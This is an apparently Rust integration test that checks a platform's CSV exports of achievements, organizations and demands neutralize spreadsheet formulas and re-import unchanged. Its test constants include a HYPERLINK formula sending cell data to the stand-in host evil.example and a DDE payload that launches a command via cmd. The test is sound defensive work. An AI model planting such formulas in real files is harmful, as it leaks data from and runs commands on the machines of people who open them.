//! Exports are safe to open in a spreadsheet (issue #11, finding 8), on both databases: a value a
//! spreadsheet would evaluate comes out of every CSV export behind a `'`, and the exported file
//! imports back to the same values.

mod common;

use axum::http::{Method, StatusCode};
use chengguo_store::storage_test;
use chengguo_store::testing::TestDb;
use common::{Browser, TestApp};
use serde_json::json;

const HOSTILE_TITLE: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"详情\")";
const HOSTILE_NAME: &str = "@SUM(1+1)*cmd|' /C calc'!A0";

/// No cell of a CSV file starts like a formula (OWASP: `=`, `+`, `-`, `@`, tab, CR), except a
/// plain negative number.
fn assert_no_formula(csv_bytes: &[u8]) {
    let text = std::str::from_utf8(csv_bytes).unwrap();
    let text = text.strip_prefix('\u{feff}').unwrap();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            let first = cell.trim_start_matches(' ').chars().next();
            let evaluated = matches!(first, Some('=' | '+' | '@' | '\t' | '\r'))
                || (first == Some('-') && cell.parse::<f64>().is_err());
            assert!(!evaluated, "{cell:?} would be evaluated as a formula");
        }
    }
}

/// The header line and the lines of `csv` that contain `needle` (single-line records).
fn lines_with(csv: &str, needle: &str) -> String {
    let mut lines = csv.split("\r\n");
    let header = lines.next().unwrap().to_string();
    let rows: Vec<&str> = lines.filter(|l| l.contains(needle)).collect();
    assert_eq!(rows.len(), 1, "one exported record holds {needle:?}");
    format!("{header}\r\n{}\r\n", rows[0])
}

async fn csv_exports_neutralize_formulas_and_import_back(db: &TestDb) {
    let app = TestApp::new(db.clone_for_test()).await;
    let bureau = app.token("bureau").await;
    let anon = Browser::new();

    // An achievement published with a formula as its title (the bureau imports it published).
    let file = format!(
        "ref,title,abstract,owner_credit_code,stage,status\nCSV-INJ-1,\"{}\",-1+1 是摘要,12210102DM0000004P,中试,published\n",
        HOSTILE_TITLE.replace('"', "\"\"")
    );
    let r = app
        .raw(
            Method::POST,
            "/api/v1/achievements/import",
            Some(&bureau),
            file.into_bytes(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json()["created"], 1);

    // The anonymous export: the title behind an apostrophe, no cell evaluated.
    let r = app.page(&anon, "/achievements/export.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    assert_no_formula(&r.body);
    let csv = r.text();
    assert!(
        csv.contains(&format!("\"'{}\"", HOSTILE_TITLE.replace('"', "\"\""))),
        "the title is exported as text"
    );
    assert!(csv.contains(",'-1+1 是摘要,"), "the abstract too");
    // The same for a signed-in export of demands and organizations below; now the round trip:
    // the exported record imports back unchanged.
    let back = lines_with(csv.trim_start_matches('\u{feff}'), "CSV-INJ-1");
    let r = app
        .raw(
            Method::POST,
            "/api/v1/achievements/import",
            Some(&bureau),
            back.into_bytes(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(
        (r.json()["created"].clone(), r.json()["updated"].clone()),
        (json!(0), json!(0)),
        "the exported row is the stored record: {}",
        r.text()
    );
    assert_eq!(r.json()["unchanged"], 1);
    let r = app
        .api(
            Method::GET,
            "/api/v1/achievements?q=HYPERLINK&limit=5",
            Some(&bureau),
            None,
        )
        .await;
    let item = r.json()["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["ref"] == "CSV-INJ-1")
        .cloned()
        .expect("the record is found");
    assert_eq!(item["title"], HOSTILE_TITLE);

    // An organization named like a formula: exported as text, imported back unchanged.
    let code = chengguo_core::CreditCode::with_check("91210106MA0CDX7E1")
        .unwrap()
        .as_str()
        .to_string();
    let r = app
        .api(
            Method::POST,
            "/api/v1/organizations",
            Some(&bureau),
            Some(
                json!({"name": HOSTILE_NAME, "credit_code": code, "division_code": "210106",
                        "nature": "150", "kind": "enterprise", "description": "+86 024 1234"}),
            ),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let id = r.json()["id"].as_i64().unwrap();
    let r = app.page(&anon, "/organizations/export.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    assert_no_formula(&r.body);
    let csv = r.text();
    assert!(
        csv.contains(&format!("\n'{HOSTILE_NAME},")),
        "the name is exported as text"
    );
    assert!(csv.contains(",'+86 024 1234,"));
    let back = lines_with(csv.trim_start_matches('\u{feff}'), &code);
    let r = app
        .raw(
            Method::POST,
            "/api/v1/organizations/import",
            Some(&bureau),
            back.into_bytes(),
        )
        .await;
    assert_eq!(r.status, StatusCode::OK, "{}", r.text());
    assert_eq!(r.json()["updated"], 0, "{}", r.text());
    assert_eq!(r.json()["unchanged"], 1, "{}", r.text());
    let r = app
        .api(
            Method::GET,
            &format!("/api/v1/organizations/{id}"),
            Some(&bureau),
            None,
        )
        .await;
    assert_eq!(r.json()["name"], HOSTILE_NAME);
    assert_eq!(r.json()["description"], "+86 024 1234");

    // Demands (signed in: the enterprise's own list) go through the same writer.
    let r = app
        .api(
            Method::POST,
            "/api/v1/demands",
            Some(&app.token("enterprise").await),
            Some(json!({"ref": "CSV-INJ-D", "title": "=1+1", "industrial_chain": "robotics"})),
        )
        .await;
    assert_eq!(r.status, StatusCode::CREATED, "{}", r.text());
    let enterprise = app.login("enterprise").await;
    let r = app.page(&enterprise, "/demands/export.csv").await;
    assert_eq!(r.status, StatusCode::OK);
    assert_no_formula(&r.body);
    assert!(r.text().contains(",'=1+1,"), "{}", r.text());
}
storage_test!(csv_exports_neutralize_formulas_and_import_back);
